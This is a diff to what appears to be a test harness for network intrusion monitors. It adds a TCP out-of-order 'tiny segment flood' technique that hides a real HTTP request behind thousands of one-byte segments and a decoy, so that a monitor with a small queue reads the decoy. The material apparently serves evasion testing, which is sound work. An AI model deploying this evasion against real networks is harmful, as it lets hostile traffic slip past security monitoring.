@@ -261,6 +261,13 @@ PRE = request("/", 40, keep_alive=True)
 # sensor's, before it read all a client sends): what comes after it is out
 # of a depth-bound monitor's sight, though the server reads it.
 PAD_BODY = 1_100_000
+# A POST whose body leaves room for FLOOD_SEGMENTS one-byte segments at every
+# other offset (tcp-ofo-tiny-flood), all inside the server's first 64 KB window
+FLOOD_SEGMENTS = 4500
+FLOOD_BODY = 2 * FLOOD_SEGMENTS + 200
+PAD_FLOOD = (f"POST /upload HTTP/1.1\r\nHost: {SERVER}\r\nUser-Agent: {UA}\r\n"
+             f"Content-Type: application/octet-stream\r\nContent-Length: {FLOOD_BODY}\r\n"
+             f"\r\n").encode() + b"-" * FLOOD_BODY
 PAD = (f"POST /upload HTTP/1.1\r\nHost: {SERVER}\r\nUser-Agent: {UA}\r\n"
        f"Content-Type: application/octet-stream\r\nContent-Length: {PAD_BODY}\r\n"
        f"\r\n").encode() + b"-" * PAD_BODY
@@ -1004,6 +1011,27 @@ def build_coalesce_past_decoy(flow: Flow, real: bytes, other: bytes, plan) -> No
     flow.emit_datagram(flow.cseg(flow.data_seq(0), PSH | ACK, real[:1]))
 
 
+def build_tiny_ofo_flood(flow: Flow, real: bytes, other: bytes, plan) -> None:
+    """The request queued out of order after a POST (PAD_FLOOD), then
+    FLOOD_SEGMENTS one-byte copies of the POST's own bytes at every other
+    offset (none coalesce), the decoy request over the queued one (dropped:
+    old wins), the POST in order. Linux keeps the whole queue (its limit is
+    tcp_rmem's max, 32 MB here; live case tcp_ofo_many_tiny_segments_kept);
+    a monitor with a smaller per-connection queue prunes the farthest bytes,
+    the request, and reads the decoy in its place."""
+    at = len(PAD_FLOOD)
+    flow.emit_datagram(flow.cseg(flow.data_seq(at), PSH | ACK, real[at:]))
+    for i in range(1, 2 * FLOOD_SEGMENTS, 2):
+        flow.emit_datagram(flow.cseg(flow.data_seq(i), PSH | ACK, real[i:i + 1]), gap=0.00002)
+    flow.emit_datagram(flow.cseg(flow.data_seq(at), PSH | ACK, other[at:]))
+    for i in range(0, at, 1460):
+        flow.emit_datagram(flow.cseg(flow.data_seq(i), PSH | ACK, real[i:min(at, i + 1460)]))
+
+
+def views_prunes_early(real: bytes, other: bytes, plan) -> dict:
+    return {"prunes-its-queue-early": real[:len(PAD_FLOOD)] + other[len(PAD_FLOOD):]}
+
+
 def views_nearest_segment(real: bytes, other: bytes, plan) -> dict:
     return {"nearest-queued-segment": real[:3] + other[3:]}
 
@@ -1153,6 +1181,10 @@ def _techniques() -> list[Technique]:
         Technique("tcp-pad-past-depth", DEFAULT_POLICY,
                   "a 1.1 MB upload first on the keep-alive connection, the request after "
                   "it (past a 1 MB reassembly depth)", build_acked, prefix=PAD),
+        Technique("tcp-ofo-tiny-flood", DEFAULT_POLICY,
+                  f"the request queued out of order behind a POST, {FLOOD_SEGMENTS:,} one-byte "
+                  "segments before it, a decoy over it, then the POST in order",
+                  build_tiny_ofo_flood, prefix=PAD_FLOOD, views=views_prunes_early),
         Technique("frag-seg-shuffled", DEFAULT_POLICY,
                   "16-48 byte TCP segments in 8-byte IP fragments, all shuffled together",
                   build_frag_seg(overlap=False), xmit=xmit_frag("in-order")),
